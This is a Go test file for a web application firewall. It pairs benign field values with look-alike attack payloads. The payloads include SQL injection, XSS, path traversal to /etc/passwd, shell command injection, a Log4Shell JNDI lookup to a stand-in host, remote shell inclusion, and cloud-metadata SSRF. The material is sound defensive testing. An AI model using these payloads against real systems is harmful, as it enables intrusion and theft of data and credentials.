package waf

import (
	"net/url"
	"strings"
	"testing"

	"gatehouse/config"
	"gatehouse/waf/variables"
)

// twins are values that rules of the rule set match, each beside one that
// looks alike and is hostile.
var twins = []struct {
	place          string // of the field: query, form, JSON, cookie, path
	field          string
	benign, attack string
}{
	{"JSON", "path", "/usr/local/bin/node", "/etc/passwd"},
	{"JSON", "path", "/tmp/healthy", "/tmp/../../etc/shadow"},
	{"query", "compression", "base64", "base64 -d /tmp/x | sh"},
	{"query", "searchPolygon", "POLYGON((-122.5 37.7,-122.3 37.7,-122.3 37.8,-122.5 37.7))", "POLYGON((SELECT*FROM(SELECT user())a))"},
	{"form", "__EVENTTARGET", "ctl00$MainContent$LoginButton", `{"$ne":"ctl00"}`},
	{"query", "q", `"drop shipping" or dropshipping -amazon`, `"drop" or 1=1 -- shipping dropshipping`},
	{"query", "q", `repo:acme/app "eval(" language:javascript NOT path:vendor/*`, `repo:acme/app lang:js <script>eval(1)</script>`},
	{"query", "CQL_FILTER", "PERSONS BETWEEN 1000000 AND 5000000 OR STATE_NAME='New York'", "PERSONS BETWEEN 1 AND 5 OR STATE_NAME='' UNION SELECT 1,2--"},
	{"query", "tq", "select A, sum(D) where B = 'O''Neill & Co' group by A", "1' union select A, B from users -- select"},
	{"query", "q", "SELECT Id, Name FROM Contact WHERE LastName LIKE 'O%' AND CreatedDate = LAST_N_DAYS:30", "1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)"},
	{"JSON", "option", "Drop both; select snakes", "both; select pg_sleep(5)"},
	{"JSON", "range", "'Q4 plan'!A1:D4", "'Q4 plan'!A1' union select 1"},
	{"JSON", "description", `Order 118 + "Select" plan`, `Order 118" select plan from x where "1"="1`},
	{"query", "smv", "2147483647", "2147483648' or '1'='1"},
	{"JSON", "title", "JavaScript: The Good Parts", "javascript: alert(1)"},
	{"form", "key", "uploads/2024/11/6b191787/${filename}", "uploads/${IFS}cat${IFS}/etc/passwd"},
	{"form", "items[1][url]", "../downloads/index.html", "../../downloads/config.php"},
	{"JSON", "pattern", `^[^@\s]+@[^@\s]+\.[a-z]{2,}$`, "../../../../etc/passwd"},
	{"JSON", "content", "BEGIN;\nALTER TABLE wp_posts RENAME TO posts;\nDROP TABLE IF EXISTS wp_old_options;\nCOMMIT;", "x'; DROP TABLE wp_posts;\n--"},
	{"JSON", "select", "sum(total_gross) as umsatz", "sum(total_gross) union select password from users"},
	{"JSON", "backoff", "2**n + rand(10)", "2 and rand(10)=rand(10) union select 1"},
	{"JSON", "skill", "<html> & css", "en\r\n\r\n<html><script>alert(1)</script>"},
	{"JSON", "path", "home/shelf[3]/item[2]", "/b[i]n/c[a]t /etc/passwd"},
	{"JSON", "log", "/var/log/nginx/access.log", "/var/log/../../etc/passwd"},
	{"JSON", "element", `<img src="/hero.avif" alt="L'aube">`, `<img src="/hero.avif" alt="L'aube" onerror="alert(1)">`},
	{"form", "content", `<p>Add <code>&lt;script src=&quot;/js/p.js&quot;&gt;&lt;/script&gt;</code> before <code>app.js</code></p>`, `<p>Add <code><script src="/js/p.js"></script></code> before <code>app.js</code></p>`},
	{"JSON", "body", "Reproduced on staging:\r\n{code:bash}\r\nkubectl exec deploy/shop -- sh -c 'cat /etc/hosts; id'\r\n{code}\r\nand it fails every time", "Reproduced on staging; cat /etc/passwd; id"},
	{"JSON", "content", "Try this:\n```bash\ncat access.log | awk '{print $1}' | sort | uniq -c\n```\n", "Try this:\n`cat /etc/passwd | sort`; cat /etc/passwd"},
	{"name", "json.1.set.stock.$inc", "", "json.1.user.$ne"},
	{"form", "street", "1 Select Drive", "1 union select 1,2 from drive"},
	{"query", "q", "3*(4+5)^2/7 - sqrt(16) = ?", "3*(4+5) and sleep(16)=0"},
	{"query", "q", "mysql select from two tables where id not in (select ...) slow", "mysql where id not in (select password from users) slow"},
	{"form", "content", "<p>Run it:</p><pre>; cat /etc/passwd | sort</pre><p>and look</p>", "<p>Run it:</p>; cat /etc/passwd | sort<p>and look</p>"},
	{"JSON", "html", `<p>Thanks!</p><script type="application/ld+json">{"@type":"Order","orderNumber":"100284"}</script>`, `<p>Thanks!</p><script type="text/javascript">{alert(1)}</script>`},
	{"form", "data", `{"title":"Bob's","html":"<p>It's <b>here</b></p><img src=\"/a.png\" alt=\"L'aube\">"}`, `{"text":"<script>alert(1)</script>","text":"it's a sale today"}`},
	{"form", "data", `{"title":"Bob's","html":"<p>It's <b>here</b></p><img src=\"/a.png\" alt=\"L'aube\">"}`, `{"code":"# a program\n# of lines\n; cat /etc/passwd; id\n<script>alert(1)</script>"}`},
	{"form", "data", `{"title":"Bob's","html":"<p>It's <b>here</b></p><img src=\"/a.png\" alt=\"L'aube\">"}`, `["please put this here <code><img src=x onerror=alert(1)></code> many thanks friends"]`},
	{"query", "filter", "name='O''Hara' and city='Cork'", strings.Repeat("a='b' and ", 120) + "a=' or 1=1 or '"},
	{"JSON", "frame", "java.lang.Runtime.exec(Native Method)", "java.lang.Runtime.getRuntime().exec(args)"},
	{"JSON", "frame", "com.example.checkout.CheckoutFragment.access$renderTotal(CheckoutFragment.kt:41)", "com.example.Checkout.access${jndi:ldap://x/a}(Checkout.kt:41)"},
	{"JSON", "photo", "https://uploads.shop.example/tmp/411f94ce.jpg?X-Amz-Expires=900", "/etc/passwd"},
	{"JSON", "photo", "https://uploads.shop.example/tmp/411f94ce.jpg", "https://uploads.shop.example/../../../etc/passwd"},
	{"form", "requires_dist", `requests<3,>=2.31; python_version >= "3.9" and extra == 'http'`, "requests; cat /etc/passwd; python_version"},
	{"query", "fields", "id,title,price,images{url,w,h},seller{name,badge}", "id,{cat,/etc/passwd}"},
	{"query", "fields", "id,title,price,images{url,w,h},seller{name,badge}", "c{a,oun}t"},
	{"JSON", "groupBy", "date_trunc('week', day)", "date_trunc('week', day) and sleep(5)"},
	{"JSON", "name", "${client_mobile}", "${7*7}"},
	{"JSON", "template", "Hi ${user.name}, your order #{order.id} is {{status}}", "Hi ${user.getClass().forName('x')}, your order {{7*7}}"},
	{"JSON", "version", "${log4j2.version}", "${log4j2:${env:X}}"},
	{"JSON", "command", "exec java ${JAVA_OPTS} -jar app.jar", "exec cat${IFS}/etc/passwd"},
	{"JSON", "filter", `state = "OPEN" AND due_time < "2026-12-01T00:00:00Z" AND NOT labels.env = "test"`, `state = "OPEN"; env AND NOT labels = "$(id)"`},
	{"JSON", "redirectUris", "http://localhost:8081/*", "http://localhost:8081/admin?x=1"},
	{"JSON", "code", "<?php\n$name = $_GET['name'] ?? 'world';\necho 'Hello, ' . htmlspecialchars($name);\n", "<?php\n$name = $_GET['name'];\nsystem($name);\n"},
	{"query", "url", "http://203.0.113.7/~ann/index.php?page=news", "http://203.0.113.7/shell.txt?"},
	{"query", "url", "http://203.0.113.7/status", "http://169.254.169.254/latest/meta-data"},
	{"form", "content", `<p style="color:red" title="it's">Hello</p><img src="/a.jpg" style="max-width:100%" onload="" />`, `<p style="color:red" title="it's">Hello</p><img src="/a.jpg" style="max-width:100%" onload="alert(1)" />`},
	{"query", "filter", `publishDate:"[1990 TO 2010]"`, `publishDate:"[1990]" or 1=1`},
	{"query", "query", "SELECT ?item ?itemLabel WHERE {\n  ?item wdt:P31 wd:Q146.\n  OPTIONAL { ?item wdt:P18 ?pic }\n  FILTER(?n >= 10 && LANG(?itemLabel) = \"en\")\n  SERVICE wikibase:label { bd:serviceParam wikibase:language \"en\". }\n} LIMIT 10", "1 && LENGTH(version()) = 10"},
	{"JSON", "value", "${kwota > 5000 && ryzyko != 3}", "${kwota > 5000 && T(java.lang.Runtime).getRuntime()}"},
	{"name", "org.apache.struts.taglib.html.TOKEN", "", "org.apache.struts.action.class.classLoader"},
	{"form", "data", "{\"type\":\"event\"}\n{\"message\":\"console.error: document.cookie is empty\"}", "{\"type\":\"event\"}\n{\"message\":\"<script>document.cookie</script>\"}"},
	{"cookie", "OptanonConsent", "isGpcEnabled=0&datestamp=Wed+Nov+25+2026+09%3A14%3A31+GMT%2B0100+(Central+European+Standard+Time)&version=202410.1.0&hosts=&geolocation=FR%3BIDF",
		"isGpcEnabled=0&datestamp=x%3Bcat+/etc/passwd&version=202410.1.0&hosts=&geolocation=FR"},
	{"cookie", "_abck", "512DC12D82A153B81655094C2D1468CA~0~YAAQxk2/hIYe8ivD+SE1YL4yhRnSxWrTABxckKVRHnCECYBJo2JUoc7~-1~-1~-1", "~0;cat /etc/passwd ~-1"},
	{"path", "", "/app/customers.xhtml;jsessionid=ec0c40660281f5e176e5ff92b2880cb1.node1", "/app/x.xhtml<svg onload=alert(1)>"},
	{"path", "", "/cdn-cgi/image/width=400,fit=cover,onerror=redirect/https:/img.example/u/a.jpg", "/cdn/x,onerror=alert(1)/"},
	{"name", "json.where.$and.0.country.$in.1", "", "json.user.$ne"},
	{"name", "filters[price][$lte]", "", "user[$ne]"},
	{"name", "filters[name][$in]", "", "filters[$where]"},
	{"name", "sessionId", "", "PHPSESSID"},
	{"name", "$expand", "", "user[$regex]"},
}

// twin is the request with a value in its place.
func twin(place, field, value string) *variables.Request {
	switch place {
	case "cookie":
		return request("GET", "/", "HTTP/1.1", []variables.Pair{{Name: "Host", Value: "shop.example"}, {Name: "User-Agent", Value: "Mozilla/5.0"}, {Name: "Accept", Value: "*/*"},
			{Name: "Cookie", Value: field + "=" + value}}, "")
	case "path":
		return get(value)
	case "name":
		return get("/?" + url.Values{field: {"a1"}}.Encode())
	}
	for _, p := range places {
		if p.name == place {
			return p.make(field, value)
		}
	}
	panic(place)
}

// TestWhatLooksLikeAnAttackIsToldFromIt judges each value and its twin.
func TestWhatLooksLikeAnAttackIsToldFromIt(t *testing.T) {
	oneGoroutine(t)
	j, plain := balancedJudge(t), judgeOf(t, func(*config.RuleSet) {})
	for _, tc := range twins {
		field, attackField := tc.field, tc.field
		if tc.place == "name" {
			attackField = tc.attack
		}
		benign, attack := twin(tc.place, field, tc.benign), twin(tc.place, attackField, tc.attack)
		if jm := verdict(t, plain, benign); !jm.Blocked {
			t.Errorf("%s %s=%q is not blocked by the plain rules: it shows nothing", tc.place, field, tc.benign)
		}
		if jm := verdict(t, j, benign); jm.Blocked {
			t.Errorf("%s %s=%q is blocked: score %d,%s", tc.place, field, tc.benign, jm.Score, doubts(&jm))
		}
		if jm := verdict(t, j, attack); !jm.Blocked {
			t.Errorf("%s %s=%q passes: score %d of %d,%s", tc.place, attackField, tc.attack, jm.Score, jm.Unweighed, doubts(&jm))
		}
	}
}

// TestAnArgumentClearsNoPath asks for a hidden file as if an object store had
// signed its address: anybody can write that argument.
func TestAnArgumentClearsNoPath(t *testing.T) {
	oneGoroutine(t)
	j := balancedJudge(t)
	for _, target := range []string{"/.env?X-Amz-Signature=1", "/backup/shop.sql.gz?X-Goog-Signature=1", "/%20/.env", "/a/b/raw/.git/config"} {
		if jm := verdict(t, j, get(target)); !jm.Blocked {
			t.Errorf("%s passes:%s", target, doubts(&jm))
		}
	}
}
